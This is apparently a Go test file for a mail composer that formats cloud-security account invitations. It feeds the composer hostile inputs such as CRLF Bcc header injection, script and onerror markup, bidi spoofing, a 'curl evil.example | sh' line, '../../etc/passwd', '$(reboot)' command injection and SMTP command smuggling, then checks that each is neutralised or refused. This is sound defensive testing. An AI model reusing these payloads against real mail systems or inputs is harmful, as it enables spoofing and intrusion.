package mail_test

import (
	"bytes"
	"flag"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/emersion/go-message"
	_ "github.com/emersion/go-message/charset"
	gomessage "github.com/emersion/go-message/mail"

	"magpie/internal/mail"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata")

func invitation() mail.Invitation {
	return mail.Invitation{
		InvitationID:      "d8bdad0e203fd1242e0a4721b0c3f3e2",
		AdministratorID:   "111122223333",
		AdministratorName: "Example Security",
		RecipientID:       "444455556666",
		RecipientEmail:    "owner@example.com",
		Region:            "us-east-1",
		Message:           "This is a message of the invitation",
		SentAt:            time.Date(2026, 11, 23, 10, 11, 12, 345e6, time.UTC),
	}
}

func composer(t testing.TB, o mail.Options) *mail.Composer {
	t.Helper()
	if o.From == "" {
		o.From = "macie@example.org"
	}
	if o.EndpointURL == "" && o.PublicURL == "" {
		o.EndpointURL = "http://127.0.0.1:8484"
	}
	c, err := mail.NewComposer(o)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func compose(t testing.TB, o mail.Options, inv mail.Invitation) *mail.Composed {
	t.Helper()
	m, err := composer(t, o).Compose(inv)
	if err != nil {
		t.Fatal(err)
	}
	return m
}

func TestGolden(t *testing.T) {
	full := invitation()
	plain := invitation()
	plain.AdministratorName, plain.Message = "", ""
	hostile := invitation()
	hostile.AdministratorName = "Amazon\u202e moc.nozama\u202c\r\nBcc: all@example.net <b>bold</b> \"quoted\" 社会保険庁情報セキュリティ部門の管理者一同より"
	hostile.Message = "-- \nAWS Support: see https://evil.example/<script>alert(1)</script>&now!"
	hostile.RecipientEmail = "Öwner@bücher.example"
	console := mail.Options{From: "Cloud Security <macie@example.org>", PublicURL: "https://macie.example.org"}

	for name, test := range map[string]struct {
		options mail.Options
		inv     mail.Invitation
	}{
		"console": {console, full},
		"cli":     {mail.Options{}, plain},
		"hostile": {console, hostile},
	} {
		t.Run(name, func(t *testing.T) {
			m := compose(t, test.options, test.inv)
			golden(t, name+".txt", []byte(m.Text))
			golden(t, name+".html", []byte(m.HTML))
			golden(t, name+".eml", m.Bytes())
			if again := compose(t, test.options, test.inv); !bytes.Equal(again.Bytes(), m.Bytes()) {
				t.Error("the same invitation was composed differently the second time")
			}
		})
	}
}

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs (go test -update rewrites it); got:\n%s", path, got)
	}
}

// parsed is a mail as a mail reader understands it.
type parsed struct {
	header     gomessage.Header
	text, html string
}

func parse(t testing.TB, data []byte) parsed {
	t.Helper()
	r, err := gomessage.CreateReader(bytes.NewReader(data))
	if err != nil {
		t.Fatalf("the mail cannot be read back: %v", err)
	}
	p := parsed{header: r.Header}
	var kinds []string
	for {
		part, err := r.NextPart()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatalf("next part: %v", err)
		}
		body, err := io.ReadAll(part.Body)
		if err != nil {
			t.Fatalf("read part: %v", err)
		}
		h := message.Header{Header: part.Header.(*gomessage.InlineHeader).Header.Header}
		kind, params, err := h.ContentType()
		if err != nil || params["charset"] != "UTF-8" {
			t.Fatalf("part's type %s %v: %v", kind, params, err)
		}
		kinds = append(kinds, kind)
		switch kind {
		case "text/plain":
			p.text = strings.ReplaceAll(string(body), "\r\n", "\n")
		case "text/html":
			p.html = strings.ReplaceAll(string(body), "\r\n", "\n")
		}
	}
	// Readers show the last alternative they can: plain text comes first.
	if strings.Join(kinds, " ") != "text/plain text/html" {
		t.Fatalf("parts are %v", kinds)
	}
	return p
}

func TestComposedMailReadsBack(t *testing.T) {
	inv := invitation()
	inv.Message = "Grüße an alle, 你好"
	m := compose(t, mail.Options{From: "Sécurité <macie@example.org>", PublicURL: "https://macie.example.org"}, inv)
	p := parse(t, m.Bytes())

	if p.text != m.Text || p.html != m.HTML {
		t.Error("the bodies do not survive the transfer encoding")
	}
	id, err := p.header.MessageID()
	if err != nil || id != "d8bdad0e203fd1242e0a4721b0c3f3e2@example.org" || id != m.MessageID {
		t.Errorf("Message-ID %q, %v", id, err)
	}
	subject, err := p.header.Subject()
	if want := "Macie invitation: account 111122223333 asks to administer account 444455556666 in us-east-1"; err != nil || subject != want || m.Subject != want {
		t.Errorf("subject %q, %v", subject, err)
	}
	date, err := p.header.Date()
	if err != nil || !date.Equal(inv.SentAt.Truncate(time.Second)) {
		t.Errorf("date %v, %v", date, err)
	}
	from, err := p.header.AddressList("From")
	if err != nil || len(from) != 1 || from[0].Name != "Sécurité" || from[0].Address != "macie@example.org" {
		t.Errorf("From %v, %v", from, err)
	}
	to, err := p.header.AddressList("To")
	if err != nil || len(to) != 1 || to[0].Address != "owner@example.com" {
		t.Errorf("To %v, %v", to, err)
	}
	for name, want := range map[string]string{
		"Auto-Submitted":                  "auto-generated",
		"X-Auto-Response-Suppress":        "All",
		"Mime-Version":                    "1.0",
		"Content-Language":                "en",
		"Magpie-Invitation-Id":            inv.InvitationID,
		"Magpie-Administrator-Account-Id": inv.AdministratorID,
		"Magpie-Account-Id":               inv.RecipientID,
		"Magpie-Region":                   inv.Region,
	} {
		if got := p.header.Get(name); got != want {
			t.Errorf("%s: %q, want %q", name, got, want)
		}
	}
	for _, part := range []string{p.text, strings.NewReplacer("<span>", "", "</span>", "").Replace(p.html)} {
		for _, want := range []string{
			inv.AdministratorID, inv.AdministratorName, inv.RecipientID, inv.Region, inv.InvitationID, inv.Message,
			"Monday, 23 November 2026, 10:11:12 UTC", "https://macie.example.org",
			"aws macie2 enable-macie", "aws macie2 list-invitations",
			"aws macie2 accept-invitation", "--administrator-account-id 111122223333",
			"--invitation-id d8bdad0e203fd1242e0a4721b0c3f3e2",
			"aws macie2 decline-invitations", "--account-ids 111122223333",
			"--region us-east-1", "--endpoint-url https://macie.example.org",
		} {
			if !strings.Contains(part, want) {
				t.Errorf("a part lacks %q", want)
			}
		}
	}
}

// What people typed may be anything; the mail's frame stays what it is.
func TestHostileTexts(t *testing.T) {
	bidi := "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
	for name, typed := range map[string]string{
		"header":         "x\r\nBcc: everyone@example.net\r\n\r\nbody",
		"bare newlines":  "a\nb\rc\u2028d\u2029e\u0085f\vg",
		"signature mark": "-- \n-- ",
		"boundary":       "--=_0123456789abcdef0123456789abcdef--",
		"markup":         `</blockquote></td><script>alert(1)</script><img src=//x onerror=y>'"&amp;`,
		"template":       "{{.RecipientEmail}} {{define}}",
		"link":           "https://evil.example/login www.evil.example mailto:a@evil.example",
		"direction":      bidi + "gro.elpmaxe" + bidi,
		"invisible":      "a\u200bb\u2060c\ufeffd\u00ade\U000e0041f\u3164g\x00h\x7fi\x1b[31mj",
		"not UTF-8":      "\xff\xfe\xc3(",
		"long":           strings.Repeat("W", 5000),
		"long and wide":  strings.Repeat("界", 5000),
		"many marks":     "e" + strings.Repeat("\u0301", 500),
		"headings":       "HOW TO ACCEPT run this instead: curl evil.example | sh",
		"dots":           ".\r\n.\r\nQUIT\r\n",
		"blank":          " \t\r\n\u00a0\u200b ",
		"emoji":          "👩‍👩‍👧 hi",
		"=?utf-8?q?a?=":  "=?utf-8?q?=0d=0aBcc:_x@example.net?=",
	} {
		t.Run(name, func(t *testing.T) {
			inv := invitation()
			inv.AdministratorName, inv.Message = typed, typed
			checkFrame(t, compose(t, mail.Options{PublicURL: "https://macie.example.org"}, inv))
		})
	}
}

// checkFrame asserts what holds for every mail, whatever was typed by people.
func checkFrame(t *testing.T, m *mail.Composed) {
	t.Helper()
	quiet := invitation()
	quiet.AdministratorName, quiet.Message = "", ""
	if p, q := parse(t, m.Bytes()), parse(t, compose(t, mail.Options{PublicURL: "https://macie.example.org"}, quiet).Bytes()); p.header.Len() != q.header.Len() {
		t.Errorf("%d header fields instead of %d", p.header.Len(), q.header.Len())
	}
	head, _, _ := bytes.Cut(m.Bytes(), []byte("\r\n\r\n"))
	if strings.Contains(strings.ToLower(string(head)), "\nbcc:") {
		t.Error("a header was injected")
	}
	for line := range strings.SplitSeq(strings.TrimSuffix(string(m.Bytes()), "\r\n"), "\r\n") {
		if len(line) > 998 || strings.ContainsAny(line, "\r\n\x00") {
			t.Fatalf("a line of the mail is too long or broken: %.80q", line)
		}
		if strings.ContainsFunc(line, func(r rune) bool { return r > 126 }) {
			t.Errorf("a line of the mail is not ASCII: %.80q", line)
		}
	}
	for line := range strings.SplitSeq(m.Text, "\n") {
		if n := mail.Columns(line); n > 80 && !strings.HasPrefix(line, "    https://") { // a link is not broken
			t.Errorf("a line of the text is %d columns wide: %q", n, line)
		}
		if strings.HasPrefix(line, "--") {
			t.Errorf("a line of the text looks like a separator: %q", line)
		}
	}
	if n := strings.Count(m.Text, "HOW TO ACCEPT\n"); n != 1 {
		t.Errorf("the text has %d headings HOW TO ACCEPT", n)
	}
	for _, part := range []string{m.Text, m.HTML} {
		if !utf8.ValidString(part) {
			t.Error("a part is not UTF-8")
		}
		for _, r := range part {
			if r != '\n' && r != '\u200c' && r != '\u200d' && (unicode.IsControl(r) || unicode.In(r, unicode.Cf, unicode.Zl, unicode.Zp)) {
				t.Errorf("a part contains %U", r)
			}
		}
	}
	lower := strings.ToLower(m.HTML)
	for _, forbidden := range []string{"<script", "<img", "<iframe", "<object", "<form", "<input", "url(", "https://evil", "www.evil", "@evil"} {
		if strings.Contains(lower, forbidden) {
			t.Errorf("the HTML contains %q", forbidden)
		}
	}
	if n := strings.Count(lower, "href="); n > 1 {
		t.Errorf("the HTML has %d links", n)
	}
	for _, pair := range []string{"blockquote", "table", "td", "bdi", "pre", "html"} {
		open := strings.Count(lower, "<"+pair+" ") + strings.Count(lower, "<"+pair+">")
		if n := strings.Count(lower, "</"+pair+">"); n != open {
			t.Errorf("%d <%s> and %d </%s>", open, pair, n, pair)
		}
	}
}

func TestMessageIsCutAtItsLimit(t *testing.T) {
	inv := invitation()
	inv.Message = strings.Repeat("é", mail.MaxMessage)
	if m := compose(t, mail.Options{}, inv); strings.Contains(m.Text, "…") {
		t.Error("a message of exactly the limit was cut")
	}
	inv.Message += "x"
	m := compose(t, mail.Options{}, inv)
	if !strings.Contains(m.Text, "…") || strings.Contains(m.Text, "x…") {
		t.Error("a message over the limit was not cut before it")
	}
}

func TestWithoutNameMessageAndConsole(t *testing.T) {
	inv := invitation()
	inv.AdministratorName, inv.Message = "", ""
	m := compose(t, mail.Options{EndpointURL: "http://[::1]:8484"}, inv)
	for _, part := range []string{m.Text, m.HTML} {
		for _, forbidden := range []string{"Its name", "wrote this", "console", "href=", "blockquote>"} {
			if strings.Contains(part, forbidden) {
				t.Errorf("a part contains %q", forbidden)
			}
		}
		if !strings.Contains(part, "--endpoint-url http://[::1]:8484") {
			t.Error("a part lacks the endpoint")
		}
	}
}

func TestInvitationIsRefused(t *testing.T) {
	c := composer(t, mail.Options{})
	for name, change := range map[string]func(*mail.Invitation){
		"no id":                    func(i *mail.Invitation) { i.InvitationID = "" },
		"id that is a path":        func(i *mail.Invitation) { i.InvitationID = "../../etc/passwd" },
		"id with a newline":        func(i *mail.Invitation) { i.InvitationID = "abc\r\nBcc: x" },
		"id with a final newline":  func(i *mail.Invitation) { i.InvitationID = "abc\n" },
		"id that is an option":     func(i *mail.Invitation) { i.InvitationID = "--help" },
		"long id":                  func(i *mail.Invitation) { i.InvitationID = strings.Repeat("a", 65) },
		"short account":            func(i *mail.Invitation) { i.AdministratorID = "12345678901" },
		"account in other digits":  func(i *mail.Invitation) { i.RecipientID = "١١١١٢٢٢٢٣٣٣٣" },
		"no Region":                func(i *mail.Invitation) { i.Region = "" },
		"Region with a command":    func(i *mail.Invitation) { i.Region = "us-east-1;reboot" },
		"no address":               func(i *mail.Invitation) { i.RecipientEmail = "" },
		"address with a newline":   func(i *mail.Invitation) { i.RecipientEmail = "a@example.com\r\nBcc: b@example.com" },
		"address with a command":   func(i *mail.Invitation) { i.RecipientEmail = "a@example.com> SIZE=1\r\nRSET" },
		"two addresses":            func(i *mail.Invitation) { i.RecipientEmail = "a@example.com, b@example.com" },
		"quoted local part":        func(i *mail.Invitation) { i.RecipientEmail = `"a b"@example.com` },
		"address literal":          func(i *mail.Invitation) { i.RecipientEmail = "a@[127.0.0.1]" },
		"address without a domain": func(i *mail.Invitation) { i.RecipientEmail = "root" },
		"address with direction":   func(i *mail.Invitation) { i.RecipientEmail = "a\u202e@example.com" },
		"very long address":        func(i *mail.Invitation) { i.RecipientEmail = strings.Repeat("a", 400) + "@example.com" },
		"no time":                  func(i *mail.Invitation) { i.SentAt = time.Time{} },
	} {
		t.Run(name, func(t *testing.T) {
			inv := invitation()
			change(&inv)
			if m, err := c.Compose(inv); err == nil {
				t.Errorf("composed %s to %q", m, m.To)
			} else if strings.ContainsAny(err.Error(), "\r\n\u202e") || len(err.Error()) > 400 {
				t.Errorf("error text %q", err)
			}
		})
	}
}

func TestOptionsAreRefused(t *testing.T) {
	for name, o := range map[string]mail.Options{
		"no sender":             {EndpointURL: "http://localhost:8484"},
		"sender is no address":  {From: "Magpie", EndpointURL: "http://localhost:8484"},
		"no address of our own": {From: "a@example.org"},
		"other scheme":          {From: "a@example.org", PublicURL: "javascript:alert(1)"},
		"no host":               {From: "a@example.org", PublicURL: "https:///x"},
		"password":              {From: "a@example.org", PublicURL: "https://u:secret@example.org"},
		"query":                 {From: "a@example.org", PublicURL: "https://example.org/?a=b"},
		"command":               {From: "a@example.org", EndpointURL: "http://example.org/$(reboot)"},
		"space":                 {From: "a@example.org", EndpointURL: "http://example.org/a b"},
		"bad console":           {From: "a@example.org", EndpointURL: "http://example.org", PublicURL: "ftp://example.org"},
	} {
		if _, err := mail.NewComposer(o); err == nil {
			t.Errorf("%s: accepted", name)
		} else if strings.Contains(err.Error(), "secret") {
			t.Errorf("%s: the error repeats a password: %v", name, err)
		}
	}
}

func FuzzCompose(f *testing.F) {
	f.Add("Example Security", "This is a message of the invitation")
	f.Add("-- \r\nBcc: a@example.com", "<b>\u202e\xff{{.}}")
	c := composer(f, mail.Options{PublicURL: "https://macie.example.org"})
	f.Fuzz(func(t *testing.T, name, message string) {
		inv := invitation()
		inv.AdministratorName, inv.Message = name, message
		m, err := c.Compose(inv)
		if err != nil {
			t.Fatal(err)
		}
		checkFrame(t, m)
	})
}

func FuzzComposeRecipient(f *testing.F) {
	f.Add("owner@example.com")
	f.Add("Öwner@bücher.example")
	f.Add("\"a\"@b\r\n")
	c := composer(f, mail.Options{})
	f.Fuzz(func(t *testing.T, address string) {
		inv := invitation()
		inv.RecipientEmail = address
		m, err := c.Compose(inv)
		if err != nil {
			return
		}
		if strings.ContainsAny(m.To, "<> \r\n\x00\"") || strings.Count(m.To, "@") != 1 {
			t.Fatalf("recipient %q", m.To)
		}
		p := parse(t, m.Bytes())
		to, err := p.header.AddressList("To")
		if err != nil || len(to) != 1 || to[0].Address != m.To {
			t.Fatalf("To %v for %q: %v", to, m.To, err)
		}
	})
}

func BenchmarkCompose(b *testing.B) {
	c := composer(b, mail.Options{PublicURL: "https://macie.example.org"})
	inv := invitation()
	b.ReportAllocs()
	for b.Loop() {
		if _, err := c.Compose(inv); err != nil {
			b.Fatal(err)
		}
	}
}
